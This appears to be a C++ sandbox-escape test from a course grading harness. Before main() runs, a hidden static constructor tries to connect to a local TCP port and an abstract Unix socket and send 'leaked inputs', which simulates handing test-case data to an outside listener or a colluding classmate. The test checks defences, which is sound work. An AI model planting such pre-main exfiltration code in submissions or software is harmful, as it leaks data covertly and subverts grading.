// attack: before main(), send the case's inputs out: connect to a listener on this machine's loopback
//         (TCP port 47001) and to an abstract Unix socket ("pmpp-attack-listener"), both opened by the
//         attack suite, as a server elsewhere or a colluding classmate's worker would listen. The
//         sandbox gives each job a network of its own, with nothing in it: it prints how many it
//         reached, which must be none, and the suite's listeners must hear nothing.
// exercise: max_reduction
// base: solution
// earns: as the solution
#include <arpa/inet.h>
#include <cstddef>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
namespace {
struct ReachTheNetwork {
  static bool sent(int fd, const sockaddr* address, socklen_t size) {
    const bool connected = fd >= 0 && connect(fd, address, size) == 0 && write(fd, "leaked inputs\n", 14) == 14;
    if (fd >= 0) close(fd);
    return connected;
  }
  ReachTheNetwork() {
    sockaddr_in tcp{};
    tcp.sin_family = AF_INET;
    tcp.sin_port = htons(47001);
    tcp.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    sockaddr_un local{};
    local.sun_family = AF_UNIX;
    const char name[] = "pmpp-attack-listener";
    std::memcpy(local.sun_path + 1, name, sizeof name - 1);  // abstract: a leading NUL
    const socklen_t local_size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + sizeof name - 1);
    int reached = sent(socket(AF_INET, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&tcp), sizeof tcp);
    reached += sent(socket(AF_UNIX, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&local), local_size);
    std::printf("network listeners reached: %d\n", reached);
    std::fflush(stdout);
  }
} reach_the_network;
}  // namespace
